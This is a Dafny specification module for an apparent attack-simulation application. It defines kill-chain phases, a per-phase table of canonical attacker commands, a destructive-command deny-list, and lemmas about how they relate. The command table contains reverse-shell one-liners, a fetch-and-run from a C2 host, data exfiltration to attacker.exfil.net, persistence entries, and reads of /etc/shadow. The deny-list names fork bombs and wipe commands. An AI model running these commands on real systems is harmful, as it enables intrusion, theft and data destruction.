/** The kill-chain catalog of the application settings: the 18 ordered phase
    names, the canonical commands per phase and the deny-list of destructive
    shell idioms. Nothing in the application mutates these values. */
module Config {
  import PyStr
  import PyDict
  import opened Wrappers

  /** The kill-chain phases, in order. */
  const Phases: seq<string> := [
    "Reconnaissance", "Resource Development",
    "Delivery", "Social Engineering",
    "Exploitation", "Persistence", "Defense Evasion",
    "Command & Control", "Pivoting", "Discovery",
    "Privilege Escalation", "Execution", "Credential Access",
    "Lateral Movement", "Collection", "Exfiltration",
    "Impact", "Objectives"
  ]

  /** The phase a new chain starts in (the chain-creation endpoint writes this
      literal). */
  const InitialPhase: string := "Reconnaissance"

  /** Canonical commands per phase, as an insertion-ordered table: the order of
      a Python dict literal. */
  const PhaseCommandTable: seq<(string, seq<string>)> := [
    ("Reconnaissance", [
      "nmap -sn <target>",
      "whois <domain>",
      "nslookup <domain>",
      "dig <domain>"]),
    ("Resource Development", [
      "msfvenom -p windows/meterpreter/reverse_tcp LHOST=<ip> LPORT=<port> -f exe -o payload.exe",
      "python3 -m http.server 8000"]),
    ("Delivery", [
      "curl -T payload.exe ftp://<ip>/uploads/",
      "smbclient //target/share -U user%pass -c 'put payload.exe'"]),
    ("Social Engineering", [
      "swaks --to user@example.com --from admin@example.com --server smtp.example.com --body 'Click here: http://evil.com'"]),
    ("Exploitation", [
      "msfconsole -x 'use exploit/multi/handler; set payload windows/meterpreter/reverse_tcp; run'",
      "sqlmap -u 'http://target/vuln.php?id=1' --batch --dump"]),
    ("Persistence", [
      "crontab -l && echo '*/5 * * * * /tmp/payload' | crontab -",
      "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Update /t REG_SZ /d \"C:\\Users\\Public\\payload.exe\""]),
    ("Defense Evasion", [
      "upx payload.exe",
      "chattr +i /tmp/hidden_file"]),
    ("Command & Control", [
      "nc -e /bin/sh <ip> <port>",
      "curl -s http://c2.server/beacon | sh"]),
    ("Pivoting", [
      "ssh -D 9090 user@pivot-host",
      "proxychains nmap -sT -Pn 192.168.1.0/24"]),
    ("Discovery", [
      "ps aux",
      "netstat -tulnp",
      "cat /etc/passwd",
      "arp -a"]),
    ("Privilege Escalation", [
      "sudo -l",
      "find / -perm -4000 2>/dev/null",
      "cat /etc/shadow"]),
    ("Execution", [
      "bash -i >& /dev/tcp/<ip>/<port> 0>&1",
      "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"<ip>\",<port>));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);'"]),
    ("Credential Access", [
      "mimikatz.exe",
      "hashcat -m 1000 hashes.txt wordlist.txt"]),
    ("Lateral Movement", [
      "psexec.py user@target 'cmd.exe'",
      "evil-winrm -i <ip> -u user -p pass"]),
    ("Collection", [
      "tar czf /tmp/data.tar.gz /home/user/Documents/",
      "find / -name \"*.docx\" -type f 2>/dev/null"]),
    ("Exfiltration", [
      "scp /tmp/data.tar.gz user@remote:/tmp/",
      "base64 /tmp/data.tar.gz | curl -X POST -d @- http://attacker.exfil.net"]),
    ("Impact", [
      "rm -rf /important/data",
      "shutdown -h now"]),
    ("Objectives", [
      "cat /flag.txt",
      "echo 'Mission Complete' > /root/success.log"])
  ]

  /** The deny-list of destructive shell idioms. */
  const UnsafeCmd: seq<string> := [
    "rm -fr /", "dd if=/dev/zero of=", "chown -R root:root /",
    "rm -rf /", ":(){ :|:& };:", "rm -rf *"
  ]

  /** The sequence has no repeated entry. */
  predicate Distinct(s: seq<string>) {
    forall i, j :: 0 <= i < j < |s| ==> s[i] != s[j]
  }

  /** Every canonical command of every phase. */
  predicate IsCanonical(cmd: string) {
    exists i :: 0 <= i < |PhaseCommandTable| && cmd in PhaseCommandTable[i].1
  }

  /** There are 18 phases, from Reconnaissance to Objectives, and a new chain
      starts in the first of them. */
  lemma PhasesShape()
    ensures |Phases| == 18
    ensures Phases[0] == InitialPhase == "Reconnaissance"
    ensures Phases[|Phases| - 1] == "Objectives"
  {
  }

  /** The first and third letters of each phase name, in phase order. */
  const PhaseTags: seq<(char, char)> := [
    ('R', 'c'), ('R', 's'), ('D', 'l'), ('S', 'c'), ('E', 'p'), ('P', 'r'),
    ('D', 'f'), ('C', 'm'), ('P', 'v'), ('D', 's'), ('P', 'i'), ('E', 'e'),
    ('C', 'e'), ('L', 't'), ('C', 'l'), ('E', 'f'), ('I', 'p'), ('O', 'j')]

  lemma PhaseTagsOfPhases(i: nat)
    requires i < |Phases|
    ensures |Phases[i]| >= 3 && PhaseTags[i] == (Phases[i][0], Phases[i][2])
  {
  }

  lemma PhaseTagsDistinct()
    ensures |PhaseTags| == |Phases|
    ensures forall i, j :: 0 <= i < j < |PhaseTags| ==> PhaseTags[i] != PhaseTags[j]
  {
  }

  /** No phase name occurs twice: the first and third letters already tell
      the phases apart. */
  lemma PhasesDistinct()
    ensures Distinct(Phases)
  {
    PhaseTagsDistinct();
    forall i, j | 0 <= i < j < |Phases| ensures Phases[i] != Phases[j] {
      PhaseTagsOfPhases(i);
      PhaseTagsOfPhases(j);
    }
  }

  /** The command table has exactly one entry per phase, in phase order, and
      every phase has at least one canonical command. */
  lemma CommandTableCoversPhases()
    ensures PyDict.Keys(PhaseCommandTable) == Phases
    ensures forall i :: 0 <= i < |PhaseCommandTable| ==> |PhaseCommandTable[i].1| >= 1
  {
  }

  /** The command table is a dict: no phase is a key twice. */
  lemma CommandTableKeysDistinct()
    ensures PyDict.KeysDistinct(PhaseCommandTable)
  {
    CommandTableCoversPhases();
    PhasesDistinct();
    forall a, b | 0 <= a < b < |PhaseCommandTable| ensures PhaseCommandTable[a].0 != PhaseCommandTable[b].0 {
      assert PyDict.Keys(PhaseCommandTable)[a] == PhaseCommandTable[a].0;
      assert PyDict.Keys(PhaseCommandTable)[b] == PhaseCommandTable[b].0;
    }
  }

  /** `PHASE_COMMANDS.get(phase)` of every phase gives the non-empty list of
      canonical commands written for it. */
  lemma CommandsOfEveryPhase(i: nat)
    requires i < |Phases|
    ensures PyDict.Get(PhaseCommandTable, Phases[i]) == Some(PhaseCommandTable[i].1)
    ensures |PhaseCommandTable[i].1| >= 1
  {
    CommandTableCoversPhases();
    CommandTableKeysDistinct();
    PyDict.GetFinds(PhaseCommandTable, i);
  }

  /** The deny-list has six distinct entries. */
  lemma UnsafeCmdShape()
    ensures |UnsafeCmd| == 6
    ensures Distinct(UnsafeCmd)
  {
  }

  /** No canonical command is literally a deny-list entry, so a gate that
      tests exact membership admits every canonical command. */
  lemma NoCanonicalCommandIsUnsafe()
    ensures forall cmd :: IsCanonical(cmd) ==> cmd !in UnsafeCmd
  {
    forall cmd | IsCanonical(cmd) ensures cmd !in UnsafeCmd {
      var i :| 0 <= i < |PhaseCommandTable| && cmd in PhaseCommandTable[i].1;
      PhaseCommandsSafe(i);
    }
  }

  /** `NoCanonicalCommandIsUnsafe` for one phase's entry. */
  lemma PhaseCommandsSafe(i: nat)
    requires i < |PhaseCommandTable|
    ensures forall c :: c in PhaseCommandTable[i].1 ==> c !in UnsafeCmd
  {
  }

  /** The Impact phase lists "rm -rf /important/data" first. */
  lemma ImpactCommands()
    ensures PyDict.Get(PhaseCommandTable, "Impact") == Some(["rm -rf /important/data", "shutdown -h now"])
  {
    CommandsOfEveryPhase(16);
    assert Phases[16] == "Impact";
  }

  /** The Impact command "rm -rf /important/data" starts with the deny entry
      "rm -rf /" without being one: a substring gate would reject this
      canonical command, the exact gate admits it. */
  lemma ImpactCommandHasUnsafePrefix()
    ensures UnsafeCmd[3] == "rm -rf /"
    ensures "rm -rf /important/data" !in UnsafeCmd
    ensures PyStr.Contains("rm -rf /important/data", "rm -rf /")
  {
    var cmd := "rm -rf /important/data";
    assert cmd[..8] == "rm -rf /";
    assert PyStr.OccursAt(cmd, "rm -rf /", 0);
  }
}
